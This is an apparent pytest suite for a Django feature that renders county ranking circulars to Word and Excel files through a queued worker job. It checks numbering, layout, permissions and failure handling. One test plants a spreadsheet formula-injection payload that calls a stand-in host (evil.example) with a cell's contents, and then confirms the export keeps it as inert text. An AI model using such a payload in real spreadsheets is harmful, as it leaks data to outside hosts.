"""The circular export end to end: the request queues a job, the real database worker
renders it, and the .docx and .xlsx re-opened with python-docx and openpyxl hold the tables."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from docx import Document
from docx.oxml.ns import qn
from openpyxl import load_workbook

from hemei.core import clock
from hemei.core.testing import COUNTY, TOWN_A, Cast
from hemei.divisions.models import Division
from hemei.rankings.choices import JobState
from hemei.rankings.circular import Circular, Table, render_docx, render_workbook
from hemei.rankings.models import ExportJob, RankingConfig, RankingRun
from hemei.rankings.services import compute_ranking

from .factories import NOV_23, OCT, TOWN_C, day, make_task, run_worker


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def october(cast: Cast) -> RankingRun:
    RankingConfig.objects.create(
        county_id=COUNTY, issuing_body="即墨区乡村振兴工作领导小组办公室", number_prefix="即振办"
    )
    make_task(
        TOWN_A, day(10, 20), title="田横镇美丽乡村示范片建设", lead_unit=cast.unit, light="red"
    )
    make_task(TOWN_A, day(10, 10), day(10, 9))
    make_task(TOWN_C, day(10, 12), day(10, 12))
    make_task(TOWN_C, day(12, 20), title="段泊岚镇污水管网改造", light="yellow")
    with clock.frozen_at(NOV_23):
        return compute_ranking(
            county_or_town=Division.objects.get(code=COUNTY),
            period_kind="month",
            period_start=OCT,
            actor=cast.alice,
        )


@pytest.mark.django_db
def test_document_numbers_run_per_county_and_year(
    october: RankingRun, cast: Cast, client: Client, media: Path
) -> None:
    client.force_login(cast.alice)
    with clock.frozen_at(NOV_23):
        client.post(f"/rankings/runs/{october.pk}/circular/")
        client.post(f"/rankings/runs/{october.pk}/circular/")  # the same circular again
        town = compute_ranking(
            county_or_town=Division.objects.get(code=TOWN_A),
            period_kind="month",
            period_start=OCT,
            actor=cast.alice,
        )
        client.post(f"/rankings/runs/{town.pk}/circular/")
    numbers = list(ExportJob.objects.order_by("id").values_list("document_number", flat=True))
    assert numbers == ["即振办〔2026〕1号", "即振办〔2026〕1号", "即振办〔2026〕2号"]


@pytest.mark.django_db
def test_every_page_shows_the_full_document_number(
    october: RankingRun, cast: Cast, client: Client, media: Path
) -> None:
    client.force_login(cast.alice)
    with clock.frozen_at(NOV_23):
        client.post(f"/rankings/runs/{october.pk}/circular/")
        job = ExportJob.objects.get()
        ranking = client.get(f"/rankings/?scope={COUNTY}&kind=month&period=2026-10-01")
        history = client.get(f"/rankings/history/?scope={COUNTY}")
        exported = client.get(f"/rankings/history/?scope={COUNTY}&export=xlsx")
        status = client.get(f"/rankings/exports/{job.pk}/")
    assert "通报文号：即振办〔2026〕1号。" in ranking.content.decode()
    assert "即振办〔2026〕1号</td>" in history.content.decode()
    assert "<h1>通报即振办〔2026〕1号</h1>" in status.content.decode()
    sheet = load_workbook(io.BytesIO(body(exported) if exported.streaming else exported.content))
    assert [row[-1] for row in sheet.active.iter_rows(values_only=True)][1] == "即振办〔2026〕1号"
    for page in (ranking, history, status):
        assert "已印发通报〔" not in page.content.decode()


@pytest.mark.django_db(transaction=True)
def test_the_circular_is_made_by_the_worker_and_downloaded(
    october: RankingRun, cast: Cast, client: Client, media: Path
) -> None:
    client.force_login(cast.alice)
    with clock.frozen_at(NOV_23):
        response = client.post(f"/rankings/runs/{october.pk}/circular/")
        job = ExportJob.objects.get()
        assert response["Location"] == f"/rankings/exports/{job.pk}/"
        assert job.state == JobState.QUEUED and job.task_result_id
        assert job.document_number == "即振办〔2026〕1号"
        waiting = client.get(f"/rankings/exports/{job.pk}/").content.decode()
        assert 'hx-trigger="every 2s"' in waiting
        assert client.get(f"/rankings/exports/{job.pk}/docx/").status_code == 404
        run_worker()

    job.refresh_from_db()
    assert job.state == JobState.DONE, job.error
    assert Path(job.docx.path).is_relative_to(media)
    status = client.get(f"/rankings/exports/{job.pk}/", headers={"HX-Request": "true"})
    assert "every 2s" not in status.content.decode()
    assert f"/rankings/exports/{job.pk}/docx/" in status.content.decode()

    document = Document(io.BytesIO(body(client.get(f"/rankings/exports/{job.pk}/docx/"))))
    texts = [paragraph.text for paragraph in document.paragraphs]
    assert texts[0] == "即墨区乡村振兴工作领导小组办公室"
    assert "即振办〔2026〕1号" in texts
    title = next(p for p in document.paragraphs if p.text.startswith("即墨区") and "通报" in p.text)
    run = title.runs[0]
    assert run.font.color.rgb is not None and str(run.font.color.rgb) == "E00000"
    assert run._element.rPr.rFonts.get(qn("w:eastAsia")) == "方正小标宋简体"
    section = document.sections[0]  # A4, to the twip
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert any("按时完成率" in text for text in texts)  # the summary, from the figures

    ranking, overdue, red, yellow = document.tables
    assert [cell.text for cell in ranking.rows[0].cells][:3] == ["排名", "区划", "得分"]
    ranked = {row.cells[1].text: row.cells[0].text for row in ranking.rows[1:]}
    assert ranked["段泊岚镇"] == "1" and ranked["田横镇"] == "2"
    overdue_row = [cell.text for cell in overdue.rows[1].cells]
    assert overdue_row[1:4] == ["田横镇美丽乡村示范片建设", "田横镇", "区农业农村局"]
    assert overdue_row[5] == "12"  # 1 November − 20 October
    assert red.rows[1].cells[1].text == "田横镇美丽乡村示范片建设"
    assert yellow.rows[1].cells[1].text == "段泊岚镇污水管网改造"
    body_run = next(p for p in document.paragraphs if "按时完成率" in p.text).runs[0]
    assert body_run._element.rPr.rFonts.get(qn("w:eastAsia")) == "仿宋"

    book = load_workbook(io.BytesIO(body(client.get(f"/rankings/exports/{job.pk}/xlsx/"))))
    assert book.sheetnames[1:] == ["排名", "逾期任务", "红灯任务", "黄灯任务"]
    sheet = book["排名"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(values_only=False)]
    assert rows[0][:3] == ["排名", "区划", "得分"]
    assert rows[1][:2] == [1, "段泊岚镇"]
    assert book["逾期任务"]["B2"].value == "田横镇美丽乡村示范片建设"
    assert book["黄灯任务"]["B2"].value == "段泊岚镇污水管网改造"


@pytest.mark.django_db(transaction=True)
def test_exports_are_scoped(october: RankingRun, cast: Cast, client: Client, media: Path) -> None:
    with clock.frozen_at(NOV_23):
        town = compute_ranking(
            county_or_town=Division.objects.get(code=TOWN_A),
            period_kind="month",
            period_start=OCT,
            actor=cast.tom,
        )
        client.force_login(cast.tom)
        client.post(f"/rankings/runs/{town.pk}/circular/")
        run_worker()
    job = ExportJob.objects.get()
    assert job.state == JobState.DONE
    urls = [f"/rankings/exports/{job.pk}/", f"/rankings/exports/{job.pk}/docx/"]
    client.force_login(cast.owen)
    assert [client.get(url).status_code for url in urls] == [404, 404]
    assert client.post(f"/rankings/runs/{town.pk}/circular/").status_code == 404
    # owen sees the county's towns ranking but may not issue its circular
    assert client.post(f"/rankings/runs/{october.pk}/circular/").status_code == 403
    client.force_login(cast.nora)
    assert [client.get(url).status_code for url in urls] == [403, 403]
    client.force_login(cast.alice)
    assert [client.get(url).status_code for url in urls] == [200, 200]
    assert client.get(f"/rankings/exports/{job.pk}/pdf/").status_code == 404
    client.logout()
    assert client.get(urls[1])["Location"].startswith("/accounts/login/")


@pytest.mark.django_db(transaction=True)
def test_titles_and_the_issuing_body_stay_text_in_the_workbook(
    cast: Cast, client: Client, media: Path
) -> None:
    """A task titled like a formula never becomes a live formula in the circular's .xlsx."""
    trap = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    RankingConfig.objects.create(county_id=COUNTY, issuing_body="=1+1", number_prefix="=2+2")
    make_task(TOWN_A, day(10, 20), title=trap, lead_unit=cast.unit, light="red")
    make_task(TOWN_C, day(10, 12), day(10, 12))
    client.force_login(cast.alice)
    with clock.frozen_at(NOV_23):
        run = compute_ranking(
            county_or_town=Division.objects.get(code=COUNTY),
            period_kind="month",
            period_start=OCT,
            actor=cast.alice,
        )
        client.post(f"/rankings/runs/{run.pk}/circular/")
        run_worker()
    job = ExportJob.objects.get()
    assert job.state == JobState.DONE, job.error
    book = load_workbook(io.BytesIO(body(client.get(f"/rankings/exports/{job.pk}/xlsx/"))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert book["逾期任务"]["B2"].value == trap and book["红灯任务"]["B2"].value == trap
    assert "=1+1" in [cell.value for cell in book.worksheets[0]["A"]]


def test_the_renderers_need_no_database() -> None:
    circular = Circular(
        issuing_body="某办",
        document_number="〔2026〕9号",
        title="通报",
        issued_on="2026年11月23日",
        summary=["一段。"],
        tables=[
            Table("一、排名", "排名", ["排名", "区划"], [[1, "甲镇"]]),
            Table("二", "空", ["x"], [], "无"),
        ],
    )
    document = Document(io.BytesIO(render_docx(circular)))
    assert document.tables[0].rows[1].cells[1].text == "甲镇"
    assert "无" in [p.text for p in document.paragraphs]
    book = load_workbook(io.BytesIO(render_workbook(circular)))
    assert book["排名"]["B2"].value == "甲镇"


@pytest.mark.django_db(transaction=True)
def test_a_job_that_cannot_store_its_files_is_marked_failed(
    october: RankingRun, cast: Cast, client: Client, settings: Any, tmp_path: Path
) -> None:
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the media folder should be", encoding="utf-8")
    settings.MEDIA_ROOT = blocker / "media"
    client.force_login(cast.alice)
    with clock.frozen_at(NOV_23):
        client.post(f"/rankings/runs/{october.pk}/circular/")
        run_worker()
    job = ExportJob.objects.get()
    assert job.state == JobState.FAILED and job.finished_at is not None
    assert "Error" in job.error
    page = client.get(f"/rankings/exports/{job.pk}/").content.decode()
    assert "every 2s" not in page
    assert "通报生成失败" in page
    assert client.get(f"/rankings/exports/{job.pk}/docx/").status_code == 404
